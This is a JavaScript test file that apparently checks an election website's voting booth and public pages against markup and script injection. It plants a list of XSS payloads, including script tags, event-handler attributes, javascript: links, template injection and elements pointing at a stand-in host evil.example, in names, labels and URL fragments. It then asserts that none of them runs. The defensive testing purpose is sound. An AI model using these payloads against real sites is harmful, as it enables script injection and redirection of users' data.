// Attack 63: markup and scripts in every text that somebody can give: none is ever run, all of it is shown as the text that it is.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import { Voter, download } from "./lib/booth.mjs";
import { watched } from "./lib/browser.mjs";
import { Election } from "./lib/election.mjs";
import { root } from "./lib/modules.mjs";
import { Service } from "./lib/service.mjs";

/** Each would set `pwned`, break out of where it stands, or load something. */
const CORPUS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "\"><svg onload=window.pwned=1>",
  "' onfocus='window.pwned=1' autofocus='",
  "</title></textarea></style></script><script>window.pwned=1</script>",
  "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
  "<a href=\"javascript:window.pwned=1\">Ada</a>",
  "javascript:window.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
  "<form action=//evil.example/><button>Vote here",
  "<template shadowrootmode=open><script>window.pwned=1</script>",
  "{ $max } { -term } { \"x\" }",
  "\u202egnp.exe <b>bold</b>",
];

const toml = JSON.stringify;
const part = (text, most) => [...text].slice(0, most).join("");
const charter = readFileSync(join(root, "charters/every-method.toml"), "utf8")
  .replace(`"Society of Counting Methods"`, toml(CORPUS[0]))
  .replace(`"All members"`, toml(CORPUS[1]))
  .replace(`"Motion"`, toml(CORPUS[2]))
  .replace(`"Approval: any number of marks, the most votes"`, toml(CORPUS[4]));

const options = (labels) => `[${labels.map((label, i) => `{ id = "o-${i}", label = ${toml(label)} }`).join(", ")}]`;
const contests = `
[[contest]]
id = "approval"
title = ${toml(CORPUS[4])}
roll = "members"
vote = "approval"
ballot = "approval"
none = true
options = ${options(CORPUS)}

[[contest]]
id = "order"
title = ${toml(CORPUS[1])}
roll = "members"
vote = "copeland"
ballot = "pairwise"
order = "partial"
options = ${options(CORPUS.slice(0, 5))}

[[contest]]
id = "grades"
title = ${toml(CORPUS[8])}
roll = "members"
vote = "majority-judgment"
ballot = "grades"
grades = ${toml(["<i>bad</i>", "<script>alert()</script>", "\"><svg><script>alert()</script>"])}
options = ${options(CORPUS.slice(0, 3))}

[[contest]]
id = "points"
title = ${toml(CORPUS[3])}
roll = "members"
vote = "score"
ballot = "score"
max = 3
options = ${options(CORPUS.slice(2, 6))}
`;

const service = await Service.start({ organisation: CORPUS[0] });
after(() => service.stop());
const election = await Election.open(service, { title: CORPUS[5], contests, charter });

/** Nothing was run, and nothing stands on the page that our own code does not make. */
async function harmless(page) {
  const found = await page.evaluate(() => ({
    pwned: window.pwned ?? null,
    strange: [...document.querySelectorAll("iframe, form[action^='//'], base, meta[http-equiv], style, script:not([src]), img[src='x'], [onerror], [onload], [onfocus], a[href^='javascript'], template")]
      .map((element) => element.outerHTML.slice(0, 100)),
  }));
  assert.deepEqual(found, { pwned: null, strange: [] }, page.url());
}

for (const language of ["en", "de"]) {
  test(`attack 63: no step of the booth runs anything of it (${language})`, () => watched(service.base, async (page, watch, context) => {
    const voter = await new Voter(page, election).enter(election.code(), language);
    await harmless(page);
    const labels = await page.locator("fieldset.contest").first().locator(".choice-text").allInnerTexts();
    const plain = (text) => text.replaceAll(/\s+/g, " ").trim();
    assert.deepEqual(labels.slice(0, CORPUS.length).map(plain), CORPUS.map(plain), "shown as the text that it is");
    await page.click("button[type=submit]");
    await page.waitForSelector("[data-fault=answers]");
    await harmless(page);
    for (const box of await page.locator("fieldset.contest").first().locator(".choice").all()) await box.click();
    await page.locator("fieldset.contest").first().locator(".choice").first().click();
    for (const [i, n] of [0, 1, 2].entries()) await page.locator(".grade-row").nth(i).locator("label.grade").nth(n).click();
    for (let n = 0; n < 5; n++) await page.locator("[data-add]").first().click();
    await page.locator("[data-down='0']").click();
    await page.locator(".number-row button").last().click();
    await harmless(page);
    await voter.review();
    await harmless(page);
    await page.click("#check-device summary");
    const tracker = await page.innerText("#tracker");
    await page.click("#challenge");
    const opening = (await download(page, "#save-opening")).text;
    await page.click("#after-challenge");
    await voter.review();
    await voter.cast();
    await harmless(page);
    await page.click("#check-receipt");
    await page.waitForSelector(".facts");
    await harmless(page);
    const second = await context.newPage();
    await second.goto(`${service.base}/${language}/second#${new URLSearchParams({ vote: "spring", election: "", tracker })}`);
    await second.waitForSelector("code.tracker");
    await second.goto(`${service.base}/${language}/second#opening=${Buffer.from(opening).toString("base64url")}`);
    await second.waitForSelector(".notice-good");
    assert.ok((await second.innerText("#app")).includes(CORPUS[1]));
    await harmless(second);
  }));

  test(`attack 63: no page that can be read runs anything of it (${language})`, () => watched(service.base, async (page, watch) => {
    // Some are of a later stage, and nobody has logged in.
    watch.allow(/40[14]/);
    for (const path of ["", "votes/spring", "votes/spring/board", "votes/spring/outcome", "votes/spring/minutes", "votes/spring/verify", "organisation", "how", "login", "me"]) {
      await page.goto(`${service.base}/${language}/${path}`);
      await page.waitForLoadState("networkidle");
      await harmless(page);
    }
  }));
}

test("attack 63: what stands in the address runs nothing, either", () => watched(service.base, async (page, watch) => {
  watch.allow(/40[0-9]/);
  for (const [n, payload] of CORPUS.entries()) {
    const coded = encodeURIComponent(payload);
    for (const path of [`en/second#vote=${coded}&tracker=${coded}&election=${coded}`, `en/second#opening=${coded}`, `en/receipt#receipt=${coded}`,
      `en/receipt#receipt=${Buffer.from(payload).toString("base64url")}`, n < 4 && `en/votes/spring/booth#election=${coded}`].filter(Boolean)) {
      await page.goto(`${service.base}/${path}`);
    }
    await page.waitForSelector("#app > *");
    await harmless(page);
  }
  for (const payload of CORPUS.slice(0, 8)) {
    await page.goto(`${service.base}/en/votes/${encodeURIComponent(payload)}/booth`);
    await page.waitForSelector("h1");
    await harmless(page);
  }
}));
